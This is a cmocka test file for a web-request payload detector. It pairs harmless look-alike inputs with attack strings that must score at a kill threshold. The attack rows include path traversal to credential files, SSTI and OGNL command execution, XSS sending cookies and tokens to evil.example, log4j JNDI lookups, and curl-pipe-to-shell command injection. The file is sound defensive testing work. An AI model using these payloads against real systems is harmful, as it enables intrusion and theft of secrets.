/* test_payload_kill.c - rows pinned at the kill line (60, deploy/
 * rules.yaml) by the review of a merge of red-team branches: values a
 * real site sends that a new rule killed, beside the attacks the rule is
 * for, which must stay kills. Each value is judged alone as a query
 * value; "kill" is any finding at or above 60, of the kind named. */
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <cmocka.h>

#include <stdio.h>
#include <string.h>

#include "collector/detect/payload.h"

#define KILL 60

struct krow {
	const char *in;
	enum payload_kind kind; /* PAYLOAD_NONE: nothing may reach the kill line */
};

static int top(const char *v, enum payload_kind k, const char **why)
{
	struct payload_match m[PAYLOAD__COUNT];
	int n = payload_scan(v, strlen(v), PAYLOAD_WHERE_QUERY, m, PAYLOAD__COUNT), best = 0;

	*why = "";
	for (int i = 0; i < n; i++)
		if ((k == PAYLOAD_NONE || m[i].kind == k) && m[i].score > best) {
			best = m[i].score;
			*why = m[i].why;
		}
	return best;
}

static void run(const char *name, const struct krow *t, size_t n)
{
	int bad = 0;

	for (size_t i = 0; i < n; i++) {
		const char *why;
		int s = top(t[i].in, t[i].kind, &why);

		if ((s >= KILL) != (t[i].kind != PAYLOAD_NONE)) {
			bad++;
			fprintf(stderr, "  FAIL %s: %s %d [%s] %s\n", name,
				t[i].kind != PAYLOAD_NONE ? "no kill" : "kill", s, why, t[i].in);
		}
	}
	assert_int_equal(bad, 0);
}

#define T PAYLOAD_TRAVERSAL
#define N PAYLOAD_NONE

/* a remote include is cut with an empty query so the appended ".php" is
 * ignored: it fetches text ("shell.txt?"); a page's, an image's or an
 * intranet share's address with an empty query is what return-URL, CDN
 * and share parameters carry (told at 50) */
static void test_rfi_page_links(void **st)
{
	static const struct krow t[] = {
		{"http://evil.example/shell.txt?", T},
		{"http://evil.example/c99.txt??", T},
		{"http://evil.example/shell.txt%00", T},
		{"http://evil.example/shell.txt?#", T},
		{"http://evil.example/shell.txt?#x", T},
		{"https://cdn.example.com/images/logo.png?#top", N},
		{"https://cdn.example.com/images/logo.png?", N},
		{"\\\\intranet01\\wwwroot\\index.php", N},
		{"https://www.example.com/index.php?", N},
		{"http://forum.example.org/viewtopic.php?", N},
		{"https://shop.example.com/page.aspx?", N},
		{"https://www.example.com/index.php#", N},
	};

	(void)st;
	run("rfi", t, sizeof(t) / sizeof(t[0]));
}

/* developers' own file names alone (uploads, search boxes, docs) are
 * told, not killed; reached by a path or a climb they are the attack */
static void test_bare_secret_names(void **st)
{
	static const struct krow t[] = {
		{"appsettings.json", N},
		{"database.yml", N},
		{"~/.npmrc", N},
		{".netrc", N},
		{"id_ed25519.pub", N},
		{"config.php.bak", N},
		{"settings.py.orig", N},
		{"config/database.yml", N},
		{"frontend/.npmrc", N},
		{"backups/settings.py.orig", N},
		{"../../appsettings.json", T},
		{"/root/.netrc", T},
		{"/home/app/.npmrc", T},
		{"../../../config.php.bak", T},
		{"/var/www/html/wp-config.php.bak", T},
	};

	(void)st;
	run("bare-names", t, sizeof(t) / sizeof(t[0]));
}

#define S PAYLOAD_SSTI

/* the twenty-sixth merge's review: Struts' JSPs read the action
 * context's value stack and mapping (the exploit chains take its
 * container or set a switch); docs pages include the project's example
 * one level up (two levels to its configuration, or any climb to a
 * system's file, is the attack); a Groovy or Kotlin string names the
 * class loader (a whole value that is the reference is the probe) */
static void test_merge16_review(void **st)
{
	static const struct krow t[] = {
		{"<s:property value=\"#context['struts.actionMapping'].name\"/>", N},
		{"<s:set var=\"vs\" value=\"#context['struts.valueStack']\"/>", N},
		{"Use #context['struts.actionMapping'] to read the mapping in a JSP", N},
		{"#context['xwork.MethodAccessor.denyMethodExecution']=false", S},
		{"(#container=#context['com.opensymphony.xwork2.ActionContext.container'])", S},
		{"#context['struts.x'] = 1", S},
		{"#context[ 'xwork.MethodAccessor.denyMethodExecution']=false", S},
		{"#_memberAccess ['allowStaticMethodAccess']=true", S},
		{"#context['_memberAccess']=1", S},
		{"(#_memberAccess )(#_memberAccess['allowStaticMethodAccess']=true)", S},
		{"(#context[0])(#context['xwork.MethodAccessor.denyMethodExecution']=false)", S},
		{"The #context map holds the request; #_memberAccess is gone in 2.5", N},
		{"Use {% include \"../snippets/demo.py\" %} to pull the example into the page.", N},
		{"Each page starts with {% include \"../_config.yml\" %} then the body", N},
		{"Put {% include \"../examples/app.properties\" %} under the heading", N},
		{"{%extends '../../app/config.py'%}", S},
		{"{% include \"../.env\" %}", S},
		{"{% extends 'AppBundle::layout.html.twig' %}", N},
		{"{% include 'AppBundle:Blog:_post.html.twig' %}", N},
		{"{% include 'theme:nav.html' %}", N},
		{"{% include 'olivero:teaser' %}", N},
		{"{% include 'file:///etc/passwd' %}", S},
		{"{% include 'php://filter/resource=index.php' %}", S},
		{"{% include 'c:/windows/win.ini' %}", S},
		{"println \"Loader: $this.class.classLoader\"", N},
		{"println \"$this.class.classLoader\"", N},
		{"def cl = \"$this.class.classLoader\"", N},
		{"$x.class.classLoader", S},
		{"\"$this.classLoader\"", S},
		{"$x.class.classLoader.resources.context", S},
		{"--> Print(invoice)", N},
		{"--> print(df.head())", N},
		{"--> Alert(\"Low stock\")", N},
		{"]]> print(doc)", N},
		{"-->alert(1)<!--", PAYLOAD_XSS},
		{"-->alert(document.domain)", PAYLOAD_XSS},
		{"-->print()", PAYLOAD_XSS},
		{"-->Function('alert(1)')()", PAYLOAD_XSS},
		{"alert .call(null,1)", PAYLOAD_XSS},
		{"Alert.call (Twilio)", N},
		{"alert?.call(null,1)", PAYLOAD_XSS},
		{"[alert][0].call(null,1)", PAYLOAD_XSS},
		{"[ alert ][ 0 ]( 1 )", PAYLOAD_XSS},
		{"[alert]['0'](1)", PAYLOAD_XSS},
		{"abc AND FIELD (1,1)", PAYLOAD_SQLI},
		{"abc AND FIELD(1,1.0)", PAYLOAD_SQLI},
		{"abc AND FIELD('1',1)", PAYLOAD_SQLI},
		{"Price and Floor (3.7)", N},
		{"Total or ROUND (12.5, 2)", N},
		{"name and field (1, 2)", N},
		{"Confirm (2)", N},
		{"Alert (3 new)", N},
		{"prompt .call is how you borrow a method", N},
		{"/usr/bin/python[23]", N},
		{"/usr/bin/python[0-9]", N},
		{"/usr/bin/w[h]oami", PAYLOAD_CMDI},
		{"/b[i]n/c[a]t /e?c/pa??wd", PAYLOAD_CMDI},
		/* helper s, session 17 (q's report): a markup attribute's path
		 * after its quote is no expression continued after a break */
		{"<a href=\"/\">Home</a>", N},
		{"<form action=\"/\">", N},
		{"<a href=\"/\" class=\"x\">", N},
		{"href=\"/\"", N},
		{"src=\"/\"", N},
		{"'-'", PAYLOAD_SQLI},
		{"x'/'", PAYLOAD_SQLI},
		/* session 17, x: rich text's embeds and includes of its own
		 * pages, snippets that cannot run, told below the kill line */
		{"<iframe width=\"560\" height=\"315\" src=\"https://www.youtube.com/embed/dQw4w9WgXcQ\" "
		 "title=\"YouTube video player\" frameborder=\"0\" allowfullscreen></iframe>", N},
		{"<p><iframe src=\"https://player.vimeo.com/video/76979871\" width=\"640\" "
		 "allow=\"autoplay; fullscreen\" allowfullscreen></iframe></p>", N},
		{"<iframe src=\"/embed/widget?id=42\" width=\"300\"></iframe>", N},
		{"<iframe src=javascript:alert(1)></iframe>", PAYLOAD_XSS},
		{"<iframe src=\"https://evil.example/x\" onload=alert(1)></iframe>", PAYLOAD_XSS},
		{"<iframe src=//evil.example/scriptlet.html <", PAYLOAD_XSS},
		{"<iframe src=\"https://www.youtube.com/embed/x\">", PAYLOAD_XSS},
		{"<iframe src=\"data:text/html,<b>x</b>\"></iframe>", PAYLOAD_XSS},
		{"<!--#include virtual=\"/footer.html\" -->", N},
		{"<!--#include file=\"header.shtml\" -->", N},
		{"<!--#include virtual=\"/etc/passwd\" -->", PAYLOAD_XSS},
		{"<!--#include file=\"../../etc/passwd\"-->", PAYLOAD_XSS},
		{"<!--#include virtual=\"/cgi-bin/counter.pl\" -->", PAYLOAD_XSS},
		{"alert.call(this, msg)", N},
		{"window.alert.call(window, text)", N},
		{"alert(msg)", N},
		{"alert(origin)", PAYLOAD_XSS},
		{"alert.call(this, 1)", PAYLOAD_XSS},
		{"alert.call (null,1)", PAYLOAD_XSS},
		{"<link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/npm/bootstrap@5.3.0/dist/css/bootstrap.min.css\">", N},
		{"<link rel=stylesheet href=//evil.example/x.css>", PAYLOAD_XSS},
		{"<base href=\"//evil.example/\">", PAYLOAD_XSS},
		{"<base href=\"/\\evil.example/\">", PAYLOAD_XSS},
		{"The <script> tag should go at the end of <body>", N},
		{"<script>alert(1)</script>", PAYLOAD_XSS},
		{"Don't put onclick=\"doSomething()\" in the markup, use addEventListener instead", N},
		{"document.getElementById('x').innerHTML = '';", N},
		{"<base href=\"./\">", N},
		{"alert(message)", N},
		{"prompt(question, defaultValue)", N},
		{"<a href=\"javascript:void(0)\" class=\"dropdown-toggle\">Menu</a>", N},
		{"<a href=\"javascript:;\">x</a>", N},
		{"<a href=\"javascript:void(0);alert(1)\">x</a>", PAYLOAD_XSS},
		{"<a href=\"javascript:void(alert(1))\">x</a>", PAYLOAD_XSS},
		/* session 17, t: directories a deployment form names, a user's
		 * Windows files, docs links, public keys: main killed at 75/85 */
		{"/var/lib/mysql", N},
		{"/var/lib/postgresql/data", N},
		{"/var/www/html", N},
		{"C:\\Users\\jdoe\\Documents\\config.xml", N},
		{"D:\\projects\\app\\settings.ini", N},
		{"../../docs/getting-started.md", N},
		{"../../index.html", N},
		{"id_rsa.pub", N},
		{"php.ini-development", N},
		{"win.ini-notes.txt", N},
		{"/var/lib/mysql/mysql/user.MYD", PAYLOAD_TRAVERSAL},
		{"/sys/class/net/eth0/address", PAYLOAD_TRAVERSAL},
		{"C:\\xampp\\php\\php.ini", PAYLOAD_TRAVERSAL},
		{"../../../../etc/passwd", PAYLOAD_TRAVERSAL},
		{"../../../../../index.html", PAYLOAD_TRAVERSAL},
		{"/home/jdoe/.ssh/id_rsa", PAYLOAD_TRAVERSAL},
		/* helper e, session 17: a shell default spelling a log4j
		 * prefix (note17, jndi 75), a how-to's mongo query (80) */
		{"x=1; ${DOCKER:-\"docker\"} compose up -d", N},
		{"echo ${ENV:-production}", N},
		{"db.users.find({ age: { $gt: 18 } })", N},
		{"${${env:-j}ndi:ldap://oob.example/a}", PAYLOAD_JNDI},
		{"';db.dropDatabase();'", PAYLOAD_NOSQLI},
		/* merge 17 (q's report on h17s): a result and its note after
		 * "--" is no probe; the tools' own cuts still are */
		{"3-1 -- final", N},
		{"1-1 -- draw", N},
		{"9-5 -- Mon", N},
		{"5*3 -- fifteen", N},
		{"2-1 --", N},
		{"2020-2024 --", N},
		{"2-1 -- -", PAYLOAD_SQLI},
		{"2-1--+", PAYLOAD_SQLI},
		{"2-1--", PAYLOAD_SQLI},
		{"1*1; -- ", PAYLOAD_SQLI},
		{"9124=9124 -- wXyW", PAYLOAD_SQLI},
		/* merge 17's adversarial review (rev6): kills the merge lost,
		 * and look-alikes it killed */
		{"wp-config.php-bak", PAYLOAD_TRAVERSAL},
		{"web.config_old", PAYLOAD_TRAVERSAL},
		{".htpasswd-orig", PAYLOAD_TRAVERSAL},
		{"c:/windows/win.ini-x", PAYLOAD_TRAVERSAL},
		{"php.ini-development", N},
		{"C:\\Users\\Administrator\\AppData\\Roaming\\FileZilla\\recentservers.xml", PAYLOAD_TRAVERSAL},
		{"C:\\Users\\jdoe\\AppData\\Roaming\\WinSCP.ini", PAYLOAD_TRAVERSAL},
		{"C:\\Users\\jdoe\\Documents\\config.xml", N},
		{"dd if=\\\\.\\PhysicalDrive1 of=backup.img bs=4M", N},
		{"\\\\.\\PhysicalDrive0 is the boot disk", N},
		{"MAIL=/var/spool/mail/$USER", N},
		{"/var/spool/mail/", N},
		{"/var/spool/mail/root", PAYLOAD_TRAVERSAL},
		{"555-1234#", N},
		{"20-30#", N},
		{"10/10 #", N},
		{"2+2=4 -- lol", N},
		{"db.users.createIndex({email: 1}); db.users.count()", N},
		{"db.users.insertOne({a: 1}); db.users.aggregate([])", N},
		{"1 || db.users.drop()", PAYLOAD_NOSQLI},
		{"x==x && db.users.drop()", PAYLOAD_NOSQLI},
		{"'); db.users.drop(); ('", PAYLOAD_NOSQLI},
		{"<iframe width=\"0px\" height=\"0px\" src=\"https://evil.example/x\"></iframe>", PAYLOAD_XSS},
		{"<iframe title=\"x\" src=\"https://evil.example/x\"></iframe>", PAYLOAD_XSS},
		{"<iframe width=\"560\" height=\"315\" hidden src=\"https://evil.example/x\"></iframe>", PAYLOAD_XSS},
		{"<iframe width=\"560\" height=\"315\" style=\"display: none\" src=\"https://evil.example/x\"></iframe>",
		 PAYLOAD_XSS},
		{"@System.IO.File.WriteAllText(\"Views/Home/x.cshtml\", Context.Request.Query[\"c\"])", PAYLOAD_SSTI},
		{"@System.Activator.CreateInstance(System.Type.GetType(\"System.Diagnostics.Process\"))", PAYLOAD_SSTI},
		{"qx (ls -l) returns the output", N},
		{"qx (id)", PAYLOAD_CMDI},
		{"alert(Math)", PAYLOAD_XSS},
		{"prompt(fetch)", PAYLOAD_XSS},
		/* helper s, session 18: sqli near its new rules */
		{"+2-1-- -", PAYLOAD_SQLI},
		{"x', is_admin='1", PAYLOAD_SQLI},
		{"IF(1=1,name,price)", PAYLOAD_SQLI},
		{"1 AND 1/0", PAYLOAD_SQLI},
		{"name ASC -- ", PAYLOAD_SQLI},
		{"2-(1) -- note", N},
		{"Rock 'n', style='classic", N},
		{"IF(A1=1,\"yes\",\"no\")", N},
		{"1 and 1/2 cups", N},
		{"created_at DESC -- newest first", N},
		{"copy (paste) to program files", N},
		/* c (session 28): an interpreter given a script in a code call
		 * with blanks (rev6 F5) */
		{"exec ('python manage.py migrate')", N},
		{"exec ( 'python3 manage.py runserver 0.0.0.0:8000')", N},
		{"subprocess.run ([\"/usr/bin/python3\", \"script.py\"])", N},
		{"os.system ( 'id')", PAYLOAD_CMDI},
		/* helper e, session 28: a CMS template's own list and time,
		 * Pug's i18n helper, Node's environment named in prose */
		{"<#list items as item>${item}</#list>", N},
		{"{$smarty.now|date_format}", N},
		{"{$smarty.foreach.row.index}", N},
		{"#{t(\"hello\")}", N},
		{"Pug prints \"#{process.env}\" as the environment", N},
		{"<#list .data_model?keys as k>${k}</#list>", PAYLOAD_SSTI},
		{"<#assign x=1>", PAYLOAD_SSTI},
		{"{$smarty.version}", PAYLOAD_SSTI},
		{"{$smarty.const.DB_PASSWORD}", PAYLOAD_SSTI},
		{"#{process.env}", PAYLOAD_SSTI},
		{"@using System.Diagnostics;@Process.Start(\"cmd.exe\",\"/c whoami\")", PAYLOAD_SSTI},
		{"@System . Diagnostics . Process . Start(\"cmd.exe\",\"/c id\")", PAYLOAD_SSTI},
		/* t (18): a wrapper as a sentence's subject, a log listing's
		 * glob, a log path after a directive's word, a user's own
		 * program under Program Files; the attacks beside them */
		{"php://input is how you read the raw body in PHP", N},
		{"php://input", T},
		{"expect://cat /etc/passwd and then some more words here", T},
		{"/var/log/*.log", N},
		{"access_log /var/log/nginx/access.log;", N},
		{"#define\t_PATH_WTMP\t\"/var/log/wtmp\"", N},
		{".B rtmon file /var/log/rtmon.log", N},
		{"/var/log/auth.log", T},
		{"../../var/log/apache2/access.log", T},
		{"foo; tail -n 5 /var/log/auth.log", T},
		{"C:\\Program Files\\MyApp\\app.config", N},
		{"C:\\Program Files\\MySQL\\MySQL Server 5.7\\my.ini", T},
		{"C:/Program Files/Apache Group/Apache/conf/httpd.conf", T},
		{"C:/Program Files (x86)/FileZilla Server/FileZilla Server.xml", T},
		/* session 28, x: what rich text writes beside this session's
		 * XSS rules (test_payload_rtx7.c), under the kill line: a
		 * library's sheet from a CDN, includes of a page's parts, a
		 * JSON data block, an embed's style,
		 * a dialog given a local */
		{"<link rel=\"stylesheet\" href=\"https://cdnjs.cloudflare.com/ajax/libs/font-awesome/6.4.0/css/all.min.css\" "
		 "integrity=\"sha512-abc\" crossorigin=\"anonymous\">", N},
		{"<link rel=\"stylesheet\" href=\"https://fonts.googleapis.com/css?family=Roboto:300,400,700\">", N},
		{"<link rel='stylesheet' id='theme-css' href='https://www.example.org/wp-content/themes/t/style.css?ver=6.4.2' "
		 "media='all' />", N},
		{"<link rel=\"stylesheet\" href=\"https://unpkg.com/leaflet@1.9.4/dist/leaflet.css\">", N},
		{"<link href=\"https://fonts.googleapis.com/icon?family=Material%20Icons\" rel=\"stylesheet\">", N},
		{"<style>@import url('https://fonts.googleapis.com/css2?family=Inter:wght@400;700&display=swap');</style>", N},
		{"<link rel=\"stylesheet\" href=\"https://use.typekit.net/abc1def.css\">", N},
		{"<link rel=\"stylesheet\" href=\"https://unpkg.com/aos@next/dist/aos.css\">", N},
		{"<link rel=\"stylesheet\" href=\"https://cdn.jsdelivr.net/npm/bootstrap/dist/css/bootstrap.min.css\">", N},
		{"<link rel=\"stylesheet\" href=\"https://kit.fontawesome.com/abc123.css\">", N},
		{"<link rel=\"stylesheet\" href=\"https://mysite.example/wp-content/themes/astra/style.css\">", N},
		{"<!--#include virtual=\"/includes/footer.html\" -->", N},
		{"<!--#include file=\"nav.html\" -->", N},
		{"<!--#include virtual=\"/ssi/sidebar.htm\" -->", N},
		{"<!--#include virtual=\"inc/site-header.shtml\" -->", N},
		{"<script type=\"application/ld+json\">{\"@context\":\"https://schema.org\",\"@type\":\"Organization\"}</script>",
		 N},
		{"<script type=\"application/json\" id=\"state\">{\"page\":1}</script>", N},
		{"<iframe src=\"https://www.google.com/maps/embed?pb=!1m18\" width=\"600\" height=\"450\" "
		 "style=\"border:0;width:100%;max-width:600px\" allowfullscreen loading=\"lazy\"></iframe>", N},
		{"alert(text)", N},
		{"alert(errorMessage)", N},
		{"<style>a[href^=\"http\"]{background:url(/img/ext.png) no-repeat right}</style>", N},
		{"<style>input[value=\"\"]{border-color:red}</style>", N},
		{"<iframe src=\"https://player.vimeo.com/video/1\" width=\"640\" height=\"360\" "
		 "style=\"transform:scale(0.75)\" allowfullscreen></iframe>", N},
		{"<object data=\"/files/manual.pdf\" type=\"application/pdf\" width=\"100%\" height=\"600\"></object>", N},
		{"<embed src=\"https://www.example.com/docs/guide.pdf#page=3\" width=\"600\" height=\"800\">", N},
		/* merge of session 28: a do-nothing script URL as the whole
		 * value (a link field holding what the page's own links hold) */
		{"javascript:void(0)", N},
		{"javascript:void(0);", N},
		{" javascript:void(0)", N},
		{"javascript:void(0);alert(1)", PAYLOAD_XSS},
		{"javascript:void(0)//\nalert(1)", PAYLOAD_XSS},
		{"javascript:void(document.cookie=1)", PAYLOAD_XSS},
		/* t (session 19): Spring's classpath patterns read inside the
		 * application (main: 75), macOS's temporary trees, a device
		 * name with an extension, ftp mirrors' downloads */
		{"classpath*:/META-INF/*.xml", N},
		{"classpath*:META-INF/spring/*.xml", N},
		{"classpath:META-INF/resources/webjars/", N},
		{"/private/tmp/build.log", N},
		{"/var/tmp/build.log", N},
		{"con.txt", N},
		{"uploads/aux.jpg", N},
		{"ftp://ftp.example.com/pub/readme.txt", N},
		{"ftp://ftp.cpan.org/pub/CPAN/scripts/install.pl", N},
		{"~/.m2/settings.xml", N},
		{"/data/data/export.csv", N},
		{"classpath:../../../../etc/passwd", T},
		{"\\\\.\\CON", T},
		{"/private/etc/master.passwd", T},
		/* rev8 F2: bare, told; after a climb killed */
		{"../../../data/data/com.example.app/shared_prefs/prefs.xml", T},
		{"ftp://evil.example/shell.php?", T},
		{"ftp://ftp.example.com/pub/scripts/install.php", N},
		{"/data/data/com.example.app/files/notes.txt", N},
		{"pro/con", N},
		/* helper e (session 29): PHP code calling a static method,
		 * one environment variable printed by EJS, a comment in
		 * prose before "; return", a public nip.io hex name */
		{"if ($x) {self::log(\"saved\"); return;}", N},
		{"<%= process.env.PORT %>", N},
		{"I said: 'hi' /* aside */; return policy is 30 days", N},
		{"https://deadbeef.nip.io/", N},
		{"{self::getStreamVariable(\"file:///etc/passwd\")}", PAYLOAD_SSTI},
		{"'/**/; return true; var a='", PAYLOAD_NOSQLI},
		{"<%= process.env %>", PAYLOAD_SSTI},
		/* session 29, x: a '#' link whose handler does nothing (kept
		 * at 85 since session 16), Google Tag Manager's dataLayer
		 * line, a newsletter form to another host; the attacks beside
		 * them (test_payload_rtx8.c) */
		{"<a href=\"#\" onclick=\"return false;\">Read more</a>", N},
		{"<a href=\"#\" onclick=\"return false;alert(1)\">x</a>", PAYLOAD_XSS},
		{"window['dataLayer'] = window['dataLayer'] || [];", N},
		{"';window['alert'](1);//", PAYLOAD_XSS},
		{"<form action=\"//example.us1.list-manage.com/subscribe/post?u=abc\" method=\"post\">"
		 "<input type=\"email\" name=\"EMAIL\"></form>", N},
		{"<form action=\"https://webmail.example.edu/login\"><input type=password name=p></form>", N},
		{"<form action=//203.0.113.9/login><input type=password name=p></form>", PAYLOAD_XSS},
		/* c2 (session 19): command lines in docs and prose that the
		 * command injection rules killed on main (80-85), beside the
		 * attacks each rule is for */
		{"wmic is deprecated in Windows 11", N},
		{"certutil -hashfile installer.exe SHA256", N},
		{"certutil -urlcache -f http://x/a.exe", PAYLOAD_CMDI},
		{";wmic process call create calc", PAYLOAD_CMDI},
		{"wmic process call create calc.exe", PAYLOAD_CMDI},
		{"require('child_process') vs require('worker_threads')", N},
		{"require('child_process').exec('id')", PAYLOAD_CMDI},
		{"diff <(sort a.txt) <(sort b.txt) compares sorted files", N},
		{"<(curl x|sh)", PAYLOAD_CMDI},
		{"x <(sleep 5)", PAYLOAD_CMDI},
		{";cat <(id)", PAYLOAD_CMDI},
		{"Bash here-string: tr a-z A-Z <<< \"hello\"", N},
		{"bash <<< id", PAYLOAD_CMDI},
		{"$SHELL<<<'env'", PAYLOAD_CMDI},
		{"for /f \"tokens=1,2 delims=,\" %a in (data.csv) do echo %b", N},
		{"for /f \"tokens=*\" %i in ('whoami') do %i", PAYLOAD_CMDI},
		{"for /f %a in (hosts.txt) do ping -n 1 %a & whoami", PAYLOAD_CMDI},
		{"subprocess.run(['python'])", N},
		{"subprocess.run(['id'])", PAYLOAD_CMDI},
		{"os.system('bash')", PAYLOAD_CMDI},
		{"`ls -la` shows hidden files", N},
		{"`ls -la`", PAYLOAD_CMDI},
		{"cmd /c \"npm run build\"", N},
		{"cmd /c whoami", PAYLOAD_CMDI},
		{"cmd /c \"net user\"", PAYLOAD_CMDI},
		{"cmd /c \"start calc\"", PAYLOAD_CMDI},
		/* x3 (session 19, rev8 L5 E13 E14 E9): a bracketed walk to the
		 * cookie, a Document property clobbered by name, a hex-part
		 * IP, an edge-on frame */
		{"new Image().src='//evil.example/?'+window['document']['cookie']", PAYLOAD_XSS},
		{"fetch('//e/?'+window['localStorage']['token'])", PAYLOAD_XSS},
		{"<img name=cookie>", PAYLOAD_XSS},
		{"<form action=\"http://0xCB.0.113.9/x\"><input type=password name=p></form>", PAYLOAD_XSS},
		{"<iframe src=\"https://www.youtube.com/embed/abc\" width=\"560\" height=\"315\" "
		 "style=\"transform:rotateY(90deg)\"></iframe>", PAYLOAD_XSS},
		{"<input type=\"checkbox\" name=\"cookie\" id=\"cookie\">", N},
	};

	(void)st;
	run("merge16", t, sizeof(t) / sizeof(t[0]));
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_rfi_page_links),
		cmocka_unit_test(test_bare_secret_names),
		cmocka_unit_test(test_merge16_review),
	};

	return cmocka_run_group_tests(tests, NULL, NULL);
}
